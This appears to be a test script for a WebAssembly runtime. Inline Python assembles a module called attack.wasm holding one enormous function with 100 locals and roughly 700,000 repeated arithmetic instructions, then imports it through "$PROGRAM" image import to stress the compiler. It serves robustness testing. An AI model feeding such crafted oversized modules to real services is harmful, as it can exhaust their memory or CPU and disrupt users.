/usr/bin/python3 - <<'END'
# One function that is as long as a function may be, and keeps many values alive at once.
def leb(n):
    out = bytearray()
    while True:
        out.append(n & 0x7F | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            return bytes(out)
def section(number, body):
    return bytes([number]) + leb(len(body)) + body
turn = b"".join(bytes([0x20, n, 0x20, (n * 7 + 3) % 100, 0x6C, 0x20, (n * 3 + 1) % 100, 0x6A, 0x21, (n * 11 + 5) % 100]) for n in range(100))
code = b"\x01" + leb(100) + b"\x7f" + turn * 7000 + b"\x0b"
module = b"\0asm\1\0\0\0" + section(1, b"\1\x60\0\0") + section(3, b"\1\0") + section(7, b"\1\6_start\0\0")
open("attack.wasm", "wb").write(module + section(10, b"\1" + leb(len(code)) + code))
END
"$PROGRAM" image import attack.wasm attack.wasm
